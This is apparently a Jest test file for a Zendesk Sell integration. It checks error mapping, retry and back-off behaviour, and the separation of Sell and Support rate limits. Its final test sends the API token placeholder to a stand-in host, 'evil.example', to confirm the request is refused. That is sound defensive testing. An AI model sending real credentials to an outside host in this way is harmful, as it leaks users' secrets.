import { DEMO_SUBJECT, DEMO_SUBJECT_ID } from '../../../dev/fake-zendesk/index'
import { loadSellSubject } from '../../../src/zendesk/sell/load-sell-subject'
import { sellRequest } from '../../../src/zendesk/sell/sell-api'
import { describeSellError } from '../../../src/zendesk/sell/sell-errors'
import { sellItemListSchema } from '../../../src/zendesk/sell/sell-schemas'
import { sellRequests, sellSetup } from './sell-harness'

const failure = (promise: Promise<unknown>) => promise.then(() => { throw new Error('expected a failure') }, (error: unknown) => describeSellError(error))

test('a wrong token is a 401 "unauthorized", not retried', async () => {
  const { sell, sellFake, terms, requests } = await sellSetup()
  sellFake.setToken('a-different-token')
  await expect(failure(loadSellSubject(sell, terms))).resolves.toEqual({ kind: 'unauthorized', status: 401, code: 'unauthorized' })
  // One attempt per email lookup already in flight; nothing retried.
  expect(sellRequests(requests).length).toBeLessThanOrEqual(4)
  expect(sellFake.log.every((e) => e.status === 401)).toBe(true)
})

test('a missing token (the secure setting left empty) is the same 401', async () => {
  const { sell, sellFake, terms } = await sellSetup()
  sellFake.setToken('')
  await expect(failure(loadSellSubject(sell, terms))).resolves.toMatchObject({ kind: 'unauthorized', status: 401 })
})

test('without a User-Agent Sell answers 400 invalid_user_agent (the app always sends one)', async () => {
  const { sell } = await sellSetup()
  const { 'User-Agent': _ignored, ...headers } = sellRequest('GET', '/notes').headers ?? {}
  const error = await failure(sell.caller.call({ ...sellRequest('GET', '/notes'), headers }, sellItemListSchema))
  expect(error).toEqual({ kind: 'invalid', status: 400, code: 'invalid_user_agent' })
})

test('a 429 is backed off and retried; one that lasts gives "rate_limited" after three attempts', async () => {
  const { sell, sellFake, terms, sellWaits } = await sellSetup()
  sellFake.failNext({ method: 'GET', path: /^\/v2\/contacts\?email=/, status: 429, times: 1 })
  const data = await loadSellSubject(sell, terms)
  expect(data.findings).toHaveLength(3)
  expect(sellWaits).toEqual([1000])

  sellFake.failNext({ method: 'GET', path: /^\/v2\/leads\?email=/, status: 429, times: 6 })
  await expect(failure(loadSellSubject(sell, terms))).resolves.toMatchObject({ kind: 'rate_limited', status: 429, code: 'rate_limit_exceeded' })
})

test('5xx is retried, then reported as "server"', async () => {
  const { sell, sellFake, terms, sellWaits } = await sellSetup()
  sellFake.failNext({ method: 'GET', path: /^\/v2\/contacts\?email=/, status: 503, times: 10 })
  await expect(failure(loadSellSubject(sell, terms))).resolves.toMatchObject({ kind: 'server', status: 503 })
  expect(sellWaits.filter((ms) => ms === 2000).length).toBeGreaterThan(0)
})

test('Sell failing never holds up the Support side: its 429 pauses only Sell', async () => {
  const { sell, support, sellFake, terms, supportWaits, fake } = await sellSetup()
  sellFake.failNext({ status: 429, times: 50 })
  const sellRun = failure(loadSellSubject(sell, terms))
  const [user, identities] = await Promise.all([support.users.getUser(DEMO_SUBJECT_ID), support.users.listIdentities(DEMO_SUBJECT_ID)])
  expect(user.name).toBe(DEMO_SUBJECT.name)
  expect(identities.length).toBeGreaterThan(0)
  expect(supportWaits).toEqual([])
  expect(support.caller.scheduler.stats().queued).toBe(0)
  await expect(sellRun).resolves.toMatchObject({ kind: 'rate_limited' })
  // The fake Zendesk never saw a Sell call, and the fake Sell never saw a Support one.
  expect(fake.requestLog.every((e) => e.path.startsWith('/api/v2/'))).toBe(true)
  expect(sellFake.log.every((e) => e.path.startsWith('/v2/'))).toBe(true)
})

test('a non-whitelisted host never receives the token: the host refuses the secure request', async () => {
  const { client } = await sellSetup()
  const error = await client.request({ url: 'https://evil.example/v2/contacts', type: 'GET', secure: true, headers: { Authorization: 'Bearer {{setting.sell_api_token}}' }, httpCompleteResponse: true }).catch((e: unknown) => e)
  expect(error).toMatchObject({ status: 403 })
})
